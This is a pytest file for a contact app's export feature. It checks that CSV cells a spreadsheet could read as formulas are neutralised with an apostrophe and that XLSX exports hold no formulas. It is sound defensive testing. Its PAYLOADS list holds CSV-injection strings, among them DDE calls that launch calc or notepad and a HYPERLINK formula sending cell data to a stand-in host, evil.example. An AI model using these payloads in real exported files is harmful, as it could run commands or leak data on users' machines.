"""Exports never hand a spreadsheet a formula: with neutralisation on (the default), 100 % of
formula-like CSV cells are neutralised; an XLSX export holds no formula (<f>) at all.

A CSV cell is *formula-like* when a spreadsheet could read it as a formula: its first
character is = + - @ TAB CR or LF, or it is one of those (or their full-width forms ＝ ＋ －
＠, which Japanese Excel reads as the ASCII ones) once leading spaces and invisible characters
(NBSP, ideographic space, zero-width, BOM, direction marks) are skipped. It is *neutralised*
when it starts with an apostrophe: spreadsheets then show the text as it is. Every other cell
is harmless.
"""

from __future__ import annotations

import contextlib
import csv
import re
import zipfile
from pathlib import Path

import pytest

from hubdesk.core import attributes as attrs
from hubdesk.core.contacts import create_contact
from hubdesk.core.errors import ValidationError
from hubdesk.core.io.exporter import ExportOptions, run_export
from hubdesk.core.labels import add_labels
from hubdesk.core.notes import add_note

PAYLOADS = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "=", "+", "-", "@", "==1",
    '=DDE("cmd";"/C calc";"A1")', "=cmd|' /C notepad'!'A1'", "-1", "+81 90 1234 5678",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "＝ＨＹＰＥＲＬＩＮＫ(\"x\")",
    " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "\u200f-1", " \u3000＝1", "'=1+1", "''=1+1", "'", "a=1", "x+1", "メモ=1",
]
SPACES = re.compile(r"^[\s\u00a0\u3000\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*")


def formula_like(cell: str) -> bool:
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return SPACES.sub("", cell)[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def harmless(cell: str) -> bool:
    return cell.startswith("'") or not formula_like(cell)


def test_the_harmless_rule_itself():
    assert not harmless("=1") and not harmless("＝1") and not harmless("\u3000=1")
    assert harmless("'=1") and harmless("a=1") and harmless("")


@pytest.fixture
def hostile(db):
    with db.session() as s:
        attrs.define_attribute(s, "remark", "＝Remark", "text")
        for i, payload in enumerate(PAYLOADS):
            fields = {"first_name": payload, "last_name": payload, "company": payload,
                      "job_title": payload, "address_street": payload, "address_city": payload,
                      "external_id": f"{payload}{i}"}
            try:
                cid = create_contact(s, fields, attributes={"remark": payload})
            except ValidationError:  # refused (e.g. direction controls): still in a note
                cid = create_contact(s, {"first_name": f"x{i}"})
            with contextlib.suppress(ValidationError):
                add_note(s, cid, payload)
            with contextlib.suppress(ValidationError):
                add_labels(s, cid, [payload])
    return db


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


@pytest.mark.parametrize("preset", ["hubdesk", "google", "chatwoot"])
def test_every_formula_like_csv_cell_is_neutralised(hostile, tmp_path, preset):
    out = tmp_path / "out.csv"
    run_export(hostile, out, ExportOptions(preset=preset))
    cells = _cells(out)
    risky = [c for c in cells if formula_like(c.removeprefix("'"))]
    assert len(risky) >= len(PAYLOADS)  # the payloads did reach the file
    assert [c for c in cells if not harmless(c)] == []


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_neutralised_in_other_encodings_too(hostile, tmp_path, encoding):
    out = tmp_path / "out.csv"
    run_export(hostile, out, ExportOptions(encoding=encoding, replace_unrepresentable=True))
    with open(out, encoding=encoding, newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert [c for c in cells if not harmless(c)] == []


def test_an_xlsx_export_holds_no_formula(hostile, tmp_path):
    out = tmp_path / "out.xlsx"
    run_export(hostile, out)
    with zipfile.ZipFile(out) as book:
        xml = {name: book.read(name).decode("utf-8") for name in book.namelist()
               if name.endswith(".xml")}
    sheets = [text for name, text in xml.items() if name.startswith("xl/worksheets/")]
    assert sheets and any("=1+1" in s for s in sheets)  # the payloads are in there, as text
    for name, text in xml.items():
        assert not re.search(r"<(\w+:)?f[ >/]", text), name
        assert 't="e"' not in text, name  # nor an error value
